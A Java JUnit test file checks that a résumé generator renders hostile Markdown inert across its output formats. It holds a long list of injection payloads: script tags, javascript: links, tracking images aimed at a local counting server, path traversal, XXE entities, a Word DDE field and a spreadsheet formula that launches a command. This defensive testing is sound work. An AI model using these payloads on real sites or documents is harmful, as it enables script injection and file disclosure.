package io.github.resumemaven.project;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import com.vladsch.flexmark.html.HtmlRenderer;
import io.github.resumemaven.lexicon.Lexicon;
import io.github.resumemaven.lint.Configuration;
import io.github.resumemaven.render.Format;
import io.github.resumemaven.render.pdf.TextLayer;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A résumé by somebody who means harm, rendered in every format as a build server would: nothing in the site is active, no
 * server is asked, and no file from outside of the folder is in it.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileResumeTest {
    private static final String SECRET = "CONTENT-OF-A-FILE-OUTSIDE";
    private static final AtomicInteger REQUESTS = new AtomicInteger();

    @TempDir
    static Path temp;

    private HttpServer server;
    private String host;

    @BeforeAll
    void serverAndFiles() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            REQUESTS.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        server.start();
        host = "127.0.0.1:" + server.getAddress().getPort();
        Files.writeString(temp.resolve("outside.png"), SECRET);
        Files.writeString(temp.resolve("outside.txt"), SECRET);
    }

    @AfterAll
    void stop() {
        server.stop(0);
    }

    /** {@code HOST} stands for a server that counts its requests. */
    static Stream<String> vectors() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//HOST/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script type=\"application/ld+json\">{\"@type\":\"Person\"}</script>",
                "<img src=x.png onerror=alert(1)>",
                "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><use href='http://HOST/x.svg#a'/></svg>",
                "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
                "<iframe src=http://HOST/></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=http://HOST/x></object><embed src=http://HOST/y>",
                "<form action=http://HOST/><input name=q autofocus onfocus=alert(1)><button>go</button></form>",
                "<base href=http://HOST/>",
                "<meta http-equiv=refresh content='0;url=http://HOST/'>",
                "<link rel=stylesheet href=http://HOST/x.css>",
                "<link rel=\"prefetch\" href=\"http://HOST/x\">",
                "<style>body{background:url(http://HOST/x)}</style>",
                "<style>@import 'http://HOST/x.css';</style>",
                "<p style=\"background:url(http://HOST/x)\">x</p>",
                "<p style=\"ba\\63kground:u\\72l(http://HOST/x)\">x</p>",
                "<p style=\"width:expression(alert(1))\">x</p>",
                "<div style='position:fixed;inset:0'>x</div>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<video src=http://HOST/v poster=http://HOST/p></video><audio src=http://HOST/a autoplay></audio>",
                "<picture><source srcset=http://HOST/p><img src=http://HOST/q></picture>",
                "<img srcset='http://HOST/a 1x, http://HOST/b 2x' src=http://HOST/c>",
                "<body onload=alert(1) background=http://HOST/b>",
                "</main></div></body></html><script>alert(1)</script>",
                "</style><script>alert(1)</script>",
                "</script><script>alert(1)</script>",
                "</title><script>alert(1)</script>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<!-- --!><script>alert(1)</script> -->",
                "<textarea></textarea><script>alert(1)</script>",
                "<table background=http://HOST/x><tr><td background=http://HOST/y>x</td></tr></table>",
                "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<a href=\"http://a.example\" ping=\"http://HOST/\">x</a>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java&#115;cript:alert(1))",
                "[x](&#9;javascript:alert(1))",
                "<a href='jav&#x09;ascript:alert(1)'>x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](blob:http://a.example/1)",
                "[x](file:///etc/hostname)",
                "[x][r]\n\n[r]: javascript:alert(1)",
                "<javascript:alert(1)>",
                "![x](http://HOST/pixel.png)",
                "![x](//HOST/pixel.png)",
                "![x](https://HOST/pixel.png)",
                "![x](file:///etc/hostname)",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
                "![x](/etc/hostname)",
                "![x](../outside.png)",
                "![x](img/../../outside.png)",
                "![x](%2e%2e/outside.png)",
                "![x](..%2Foutside.png)",
                "![x](..\\outside.png)",
                "![x](\\\\HOST\\share\\x.png)",
                "[x](../outside.txt)",
                "[x](%2e%2e%2foutside.txt)",
                "[x](.env)",
                "[x](settings.xml)",
                "[x](run.html)",
                "{{7*7}} {{> header}} {{{name}}} {{#each this}}x{{/each}}",
                "{{this.class.forName}} ${7*7} #{7*7} <%= 7*7 %>",
                "&xxe; <!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>",
                "<?xml version=\"1.0\"?><?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r></w:p>",
                "=HYPERLINK(\"http://HOST/\",\"x\") +cmd|' /C calc'!A0 @SUM(1)",
                "\u202Eelpmaxe\u202C \u2066x\u2069 \u200Bx\u2060 \uFEFFx",
                "x \u0001\u0008\u000C\u001B[31m x",
                "[x](http://a.example\" onclick=\"alert(1))",
                "![\" onerror=\"alert(1)](x.png \"' onload='alert(1)\")",
                "`</code><script>alert(1)</script>`",
                "```\n</code></pre><script>alert(1)</script>\n```");
    }

    private static final String FRAME =
            """
            ---
            title: "VECTOR-LINE"
            description: "VECTOR-LINE"
            ---
            # Mira Falk

            mira@example.org

            ## Experience

            ### Nordlicht VECTOR-LINE, Developer

            2019-01 – 2022-06

            - Item VECTOR-LINE end

            VECTOR

            | a | b |
            |---|---|
            | VECTOR-LINE | y |

            ## Skills

            - Java, VECTOR-LINE
            """;

    /** The site of a résumé that has the vector in each place that it fits in. */
    private Map<String, byte[]> site(String vector) throws IOException {
        Path folder = Files.createTempDirectory(temp, "cv");
        Files.writeString(folder.resolve(".env"), SECRET);
        Files.writeString(folder.resolve("settings.xml"), SECRET);
        Files.writeString(folder.resolve("run.html"), SECRET);
        Files.createDirectories(folder.resolve("img"));
        Path file = write(folder, vector, host);
        Map<String, byte[]> all = new TreeMap<>();
        for (Format format : Format.values()) {
            all.putAll(site(file, folder.resolve(format.key()), format));
        }
        return all;
    }

    /** A résumé that has the vector in each place that it fits in. */
    static Path write(Path folder, String vector, String host) throws IOException {
        String hostile = vector.replace("HOST", host);
        String line = hostile.contains("\n") ? "x" : hostile;
        String quoted = line.replace("\\", "\\\\").replace("\"", "\\\"").replaceAll("[\\p{Cntrl}\uFEFF]", " ");
        return Files.writeString(
                folder.resolve("cv.md"),
                FRAME.replace("\"VECTOR-LINE\"", '"' + quoted + '"')
                        .replace("VECTOR-LINE", line)
                        .replace("VECTOR", hostile));
    }

    /** The files of one format by their names; none where it is refused. */
    static Map<String, byte[]> site(Path file, Path output, Format format) throws IOException {
        Generation.Settings settings = new Generation.Settings(
                EnumSet.of(format),
                Optional.empty(),
                Optional.of("https://falk.example/"),
                "default",
                List.of(),
                Optional.empty(),
                OptionalInt.empty(),
                Configuration.DEFAULT,
                LocalDate.of(2026, 1, 31),
                List.of(),
                Optional.empty());
        Map<String, byte[]> files = new TreeMap<>();
        try {
            Path site = new Generation(Lexicon.load())
                    .run(List.of(new SourceFile(file, "cv.md")), output, settings, found -> {})
                    .folder();
            try (Stream<Path> paths = Files.walk(site)) {
                for (Path path : paths.filter(Files::isRegularFile).toList()) {
                    files.put(site.relativize(path).toString(), Files.readAllBytes(path));
                }
            }
        } catch (UserFault refused) {
            // An image that is not there, a script among skills: told, and nothing written.
            assertThat(refused).hasMessageContaining("Nothing was written");
            assertThat(output.resolve("site")).doesNotExist();
        }
        return files;
    }

    @ParameterizedTest
    @MethodSource("vectors")
    void nothingIsActive(String vector) throws IOException {
        int before = REQUESTS.get();
        Map<String, byte[]> site = site(vector);
        assertThat(REQUESTS.get()).isEqualTo(before);
        assertThat(site).isNotEmpty();
        assertThat(site.keySet()).allMatch(name -> Format.ofFile(name).isPresent());
        for (Map.Entry<String, byte[]> file : site.entrySet()) {
            assertThat(text(file.getValue())).doesNotContain(SECRET);
            switch (Format.ofFile(file.getKey()).orElseThrow()) {
                case HTML -> assertInertPage(text(file.getValue()));
                case PDF -> assertInertPdf(file.getValue());
                case DOCX -> assertInertDocx(file.getValue());
                case TEXT -> assertPlain(text(file.getValue()));
                case JSON -> assertThat(text(file.getValue())).startsWith("{");
                case MARKDOWN -> assertInertMarkdown(text(file.getValue()));
            }
        }
    }

    private static void assertInertPage(String html) {
        Document page = Jsoup.parse(html);
        assertThat(page.select(
                        "script:not([type=application/ld+json]), iframe, object, embed, form, input, button, svg,"
                                + " math, base, template, video, audio, noscript, source, meta[http-equiv=refresh], body style,"
                                + " body link, body script"))
                .isEmpty();
        assertThat(page.select("script").size()).isEqualTo(1);
        assertThat(page.select("style, main, title")).hasSize(3);
        assertThat(page.select("meta[http-equiv=Content-Security-Policy]").attr("content"))
                .startsWith("default-src 'none'");
        for (Element element : page.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey())
                        .doesNotStartWith("on")
                        .isNotIn("style", "srcset", "background", "ping", "target", "poster");
            }
        }
        for (Element link : page.select("a[href], link[href]:not([rel=icon])")) {
            assertThat(link.attr("href")).matches("(?i)(https?:|mailto:|tel:|%20).*|[^:]*");
        }
        for (Element image : page.select("img")) {
            assertThat(image.attr("src")).doesNotContain("//", "..").matches("data:image/(png|jpeg);.*|[^:]*");
        }
    }

    /** Shown by a program that passes on any tag and address. */
    private static void assertInertMarkdown(String markdown) {
        assertPlain(markdown);
        String body = markdown.replaceFirst("(?s)\\A---\\n.*?\\n---\\n", "");
        String html = HtmlRenderer.builder()
                .build()
                .render(com.vladsch.flexmark.parser.Parser.builder().build().parse(body));
        Document page = Jsoup.parseBodyFragment(html);
        for (Element element : page.body().getAllElements()) {
            assertThat(element.tagName())
                    .isIn(
                            "body",
                            "h1",
                            "h2",
                            "h3",
                            "h4",
                            "h5",
                            "h6",
                            "p",
                            "ul",
                            "ol",
                            "li",
                            "a",
                            "img",
                            "strong",
                            "em",
                            "code",
                            "pre",
                            "blockquote",
                            "br",
                            "hr");
            assertThat(element.attributes().asList())
                    .extracting(Attribute::getKey)
                    .isSubsetOf("href", "src", "alt", "title", "class", "start");
        }
        for (Element link : page.select("a[href]")) {
            assertThat(link.attr("href")).matches("(?i)(https?:|mailto:|tel:|%20).*|[^:]*");
        }
        for (Element image : page.select("img")) {
            assertThat(image.attr("src")).doesNotContain("//", "..").matches("data:image/(png|jpeg);.*|[^:]*");
        }
    }

    private static void assertInertPdf(byte[] pdf) {
        String raw = new String(pdf, StandardCharsets.ISO_8859_1);
        assertThat(raw)
                .doesNotContain(
                        "/JavaScript", "/JS ", "/Launch", "/EmbeddedFile", "/RichMedia", "/AcroForm", "/OpenAction");
        assertThat(TextLayer.of(pdf).addresses())
                .allMatch(address -> address.matches("(?i)(https?:|mailto:|tel:|%20).*|[^:]*"));
    }

    /** Fields, objects, macros and anything that Word would load from elsewhere are told by their elements. */
    private static void assertInertDocx(byte[] docx) throws IOException {
        List<String> parts = new ArrayList<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(docx))) {
            for (ZipEntry part = zip.getNextEntry(); part != null; part = zip.getNextEntry()) {
                parts.add(part.getName());
                String xml = text(zip.readAllBytes());
                assertThat(xml).doesNotContain("<!DOCTYPE", "<!ENTITY");
                Document document = Jsoup.parse(xml, "", Parser.xmlParser());
                for (Element element : document.getAllElements()) {
                    assertThat(element.tagName())
                            .isNotIn(
                                    "w:instrText",
                                    "w:fldChar",
                                    "w:fldSimple",
                                    "w:object",
                                    "w:altChunk",
                                    "w:pict",
                                    "o:OLEObject");
                }
                for (Element link : document.select("Relationship[TargetMode=External]")) {
                    assertThat(link.attr("Type")).endsWith("/hyperlink");
                    assertThat(link.attr("Target")).matches("(?i)(https?:|mailto:|tel:|%20).*|[^:]*");
                }
            }
        }
        assertThat(parts).noneMatch(part -> part.contains("vba") || part.contains("embed"));
    }

    /** A terminal shows the file as text: no escape sequence, no change of the reading order. */
    private static void assertPlain(String text) {
        assertThat(text.codePoints())
                .noneMatch(c -> c < 0x20 && c != '\n' || c == 0x7F || c >= 0x80 && c < 0xA0)
                .noneMatch(c -> c >= 0x202A && c <= 0x202E || c >= 0x2066 && c <= 0x2069);
    }

    @Test
    void thereAreManyVectors() {
        assertThat(vectors().distinct().count()).isGreaterThan(60);
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.UTF_8);
    }
}
